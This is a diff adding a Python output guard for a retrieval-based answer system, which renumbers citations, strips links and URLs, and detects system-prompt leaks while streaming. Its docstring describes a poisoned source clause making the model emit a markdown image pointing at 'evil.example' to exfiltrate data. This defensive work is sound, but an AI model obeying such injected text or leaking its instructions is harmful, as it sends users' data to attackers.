@@ -1,0 +1,183 @@
+"""Checking the model's text before anyone sees it.
+
+- Citation markers: [n] (also 【n】, [n, m], [^n]) naming a real source are
+  renumbered by first appearance, so the answer's [1], [2]… match the
+  citations list, which holds only the sources actually cited; a marker naming
+  no source is removed and counted.
+- Links and images: a poisoned clause can ask the model to emit
+  `![](https://evil.example/?q=…)`; a page rendering that would fetch the URL.
+  Markdown images, links, reference definitions, HTML tags and bare URLs are
+  removed (a link keeps its text), except a URL quoted verbatim in the sources.
+- Prompt leaks: text that reproduces a long run of the instructions (the system
+  prompt) is detected, so the answerer can refuse instead.
+
+While streaming, only a prefix that later text cannot change is shown: an
+unfinished link, tag, marker or URL, trailing whitespace, and the last few
+characters (where a leak could be starting) are held back.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+
+LEAK_WINDOW = 20  # letters/digits/CJK characters in a row shared with the instructions
+_URL_CHARS = r"[^\s<>\"'`，。；！？、）)\]】」』]"
+
+_HTML_TAG = re.compile(r"<[A-Za-z!/][^<>\n]*>")
+_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
+_LINK = re.compile(r"\[([^\[\]\n]*)\]\(([^)\n]*)\)")
+_REFERENCE_DEFINITION = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*\S.*$", re.MULTILINE)
+_URL = re.compile(
+    rf"(?:(?:https?|ftp|file|data|javascript):|www\.){_URL_CHARS}*"
+    rf"|(?<![A-Za-z0-9@.\-])(?:[A-Za-z0-9-]+\.)+[A-Za-z]{{2,}}(?::\d+)?/{_URL_CHARS}*",
+    re.IGNORECASE,
+)
+_MARKER = re.compile(r"([ \t]*)[\[【]\^?\s*(\d{1,2}(?:\s*[,，、]\s*\d{1,2})*)\s*[\]】]")
+_BLANK_LINES = re.compile(r"\n[ \t]*\n(?:[ \t]*\n)+")
+_SPACE_RUNS = re.compile(r"(?<=\S)[ \t]{2,}(?=\S)")
+_MARKER_TEXT = re.compile(r"\^?\s*\d{1,2}(?:\s*[,，、]\s*\d{1,2})*\s*")
+
+# Constructs that later text could still complete, at the end of the text so far.
+_OPEN_TAIL = re.compile(
+    r"(?:!?\[[^\[\]\n]*\](?:\([^)\n]*)?"  # [text]  [text](ur…   ![alt](…
+    r"|!?\[[^\]\n]*"  # [tex…
+    r"|【[^】\n]*"  # 【1…
+    r"|<[^<>\n]*"  # <img src=…
+    r"|!"  # the start of ![
+    r"|[!-~]+"  # a run of ASCII that may be growing into a URL
+    r")$"
+)
+_UNFINISHED_AT_END = re.compile(r"(?:!?\[[^\[\]\n]*\]\([^)\n]*|<[A-Za-z!/][^<>\n]*)$")
+
+
+@dataclass
+class GuardedText:
+    text: str
+    cited: list[int] = field(default_factory=list)  # source numbers, in the order of the new refs 1, 2, …
+    dropped_markers: int = 0  # markers naming no source
+    removed_links: int = 0
+
+
+def normalized(text: str) -> str:
+    """Letters, digits and CJK only, lower-cased: what a leak check compares."""
+    return "".join(ch.lower() for ch in text if ch.isalnum())
+
+
+class AnswerGuard:
+    def __init__(self, source_count: int, instructions: list[str], allowed_urls: set[str] | None = None) -> None:
+        """`instructions`: texts the model must not reveal (the system prompt, the fixed parts of the answer prompt)."""
+        self.source_count = source_count
+        self.allowed_urls = allowed_urls or set()
+        self._secret_windows = set()
+        for text in instructions:
+            flat = normalized(text)
+            self._secret_windows.update(flat[i : i + LEAK_WINDOW] for i in range(len(flat) - LEAK_WINDOW + 1))
+
+    # -- leaks ------------------------------------------------------------------
+    def leaks(self, text: str) -> bool:
+        flat = normalized(text)
+        return any(flat[i : i + LEAK_WINDOW] in self._secret_windows for i in range(len(flat) - LEAK_WINDOW + 1))
+
+    # -- cleaning ---------------------------------------------------------------
+    def clean(self, raw: str, final: bool = False) -> GuardedText:
+        """The text with links/images removed and markers validated and renumbered (a pure function of `raw`)."""
+        result = GuardedText("")
+        text = _UNFINISHED_AT_END.sub("", raw) if final else raw
+
+        def drop(match: re.Match) -> str:
+            if match.group(0) in self.allowed_urls:
+                return match.group(0)
+            result.removed_links += 1
+            return ""
+
+        def link_text(match: re.Match) -> str:
+            label, target = match.group(1), match.group(2).strip()
+            if target in self.allowed_urls:
+                return f"{label}（{target}）"
+            result.removed_links += 1
+            return f"[{label}]" if _MARKER_TEXT.fullmatch(label) else label
+
+        text = _HTML_TAG.sub(drop, text)
+        text = _IMAGE.sub(drop, text)
+        text = _LINK.sub(link_text, text)
+        text = _REFERENCE_DEFINITION.sub(drop, text)
+        text = _URL.sub(lambda m: self._drop_url(m, result), text)
+        text = _MARKER.sub(lambda m: self._renumber(m, result), text)
+        text = _SPACE_RUNS.sub(" ", _BLANK_LINES.sub("\n\n", text)).lstrip()
+        result.text = text.rstrip() if final else text
+        return result
+
+    def _drop_url(self, match: re.Match, result: GuardedText) -> str:
+        url = match.group(0).rstrip(".,;:!?")
+        if url in self.allowed_urls:
+            return match.group(0)
+        result.removed_links += 1
+        return match.group(0)[len(url) :]
+
+    def _renumber(self, match: re.Match, result: GuardedText) -> str:
+        space, numbers = match.group(1), [int(n) for n in re.findall(r"\d+", match.group(2))]
+        markers = []
+        for number in numbers:
+            if not 1 <= number <= self.source_count:
+                result.dropped_markers += 1
+                continue
+            if number not in result.cited:
+                result.cited.append(number)
+            marker = f"[{result.cited.index(number) + 1}]"
+            if marker not in markers:
+                markers.append(marker)
+        return space + "".join(markers) if markers else ""
+
+    # -- streaming --------------------------------------------------------------
+    def stable_length(self, raw: str) -> int:
+        """Length of the prefix of `raw` whose cleaned form later text cannot change."""
+        cut = len(raw)
+        counted = 0
+        for i in range(len(raw) - 1, -1, -1):  # hold back the last LEAK_WINDOW significant characters
+            if raw[i].isalnum():
+                counted += 1
+                if counted == LEAK_WINDOW:
+                    cut = i
+                    break
+        else:
+            return 0
+        tail = _OPEN_TAIL.search(raw)
+        if tail:
+            cut = min(cut, tail.start())
+        for pattern in (_HTML_TAG, _IMAGE, _LINK, _URL, _MARKER, _REFERENCE_DEFINITION):
+            for match in pattern.finditer(raw):
+                if match.start() < cut < match.end():
+                    cut = match.start()
+        while cut > 0 and raw[cut - 1].isspace():
+            cut -= 1
+        return cut
+
+
+class GuardedStream:
+    """Feeds model deltas through the guard; yields only text that is safe and final.
+
+    Nothing is shown before the first valid citation marker, so an answer that
+    turns out to cite nothing can still be replaced by the extractive answer
+    without the user having seen it.
+    """
+
+    def __init__(self, guard: AnswerGuard) -> None:
+        self.guard = guard
+        self.raw = ""
+        self.shown = ""
+        self.leaked = False
+
+    def feed(self, delta: str) -> str:
+        self.raw += delta
+        if self.guard.leaks(self.raw):
+            self.leaked = True
+            return ""
+        cleaned = self.guard.clean(self.raw[: self.guard.stable_length(self.raw)])
+        if not cleaned.cited or not cleaned.text.startswith(self.shown):
+            return ""
+        new, self.shown = cleaned.text[len(self.shown) :], cleaned.text
+        return new
+
+    def result(self) -> GuardedText:
+        return self.guard.clean(self.raw, final=True)
